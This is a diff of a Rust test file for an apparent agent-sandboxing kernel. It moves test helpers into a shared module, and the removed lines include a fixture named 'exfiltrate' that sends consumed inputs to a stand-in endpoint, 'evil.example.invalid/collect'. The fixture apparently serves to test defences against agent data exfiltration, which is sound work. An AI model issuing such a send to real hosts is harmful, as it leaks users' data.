@@ -8,54 +8,20 @@ mod common;
 use std::cell::RefCell;
 use std::path::PathBuf;
 use std::rc::Rc;
-use std::sync::Arc;
 
-use agentk_capability::{SignerSource, SigningIdentity};
-use agentk_flightlog::builder::{BuildError, KernelBuilder};
+use agentk_flightlog::builder::BuildError;
 use agentk_flightlog::event::{Effect, EventBody, EventLine};
 use agentk_flightlog::file::{SyncPolicy, verify_file};
 use agentk_flightlog::kernel::{
-    Kernel, KernelError, MemoryLog, OutputRecord, RecordSink, Recorded, SinkError, Submission, SyscallRequest,
+    Kernel, KernelError, MemoryLog, OutputRecord, RecordSink, Recorded, SinkError, Submission,
 };
 use agentk_flightlog::ledger::{LedgerError, SharedLedger};
 use agentk_flightlog::verify::verify_lines;
-use agentk_labels::{Label, LabelSet, Outcome, Syscall};
-use agentk_policy::Profile;
-use common::{Counter, FixedClock};
-
-/// Deterministic test key. Never use it anywhere else.
-fn test_key() -> Arc<SigningIdentity> {
-    Arc::new(SigningIdentity::from_secret(&[3; 32], SignerSource::Embedded))
-}
-
-/// The starter policy with `uses` for the docs-search grant.
-fn policy_with_uses(uses: u32) -> String {
-    Profile::Starter.source().replace("uses = 10\n", &format!("uses = {uses}\n"))
-}
-
-fn builder(policy: &str, entropy_start: u64) -> KernelBuilder {
-    Kernel::builder()
-        .policy_text("test", policy)
-        .signer(test_key())
-        .clock(FixedClock)
-        .entropy(Counter(entropy_start))
-        .log_id([9; 32])
-        .salt([4; 32])
-        .origin("agentk-test.example.invalid")
-}
+use agentk_labels::{Label, LabelSet, Outcome};
+use common::embedding::{builder, exfiltrate, policy_with_uses, search, test_key};
 
 fn scratch(name: &str) -> PathBuf {
     common::scratch("agentk-flightlog-embed", name)
-}
-
-fn search(inputs: &[agentk_flightlog::event::InputRef]) -> SyscallRequest<'_> {
-    SyscallRequest::new("agent-1", Syscall::ToolInvoke, "mcp://docs.example.invalid/search")
-        .consuming(inputs)
-        .presenting("demo-docs-search")
-}
-
-fn exfiltrate(inputs: &[agentk_flightlog::event::InputRef]) -> SyscallRequest<'_> {
-    SyscallRequest::new("agent-1", Syscall::NetworkSend, "https://evil.example.invalid/collect").consuming(inputs)
 }
 
 /// A sink that counts the writes it is given.
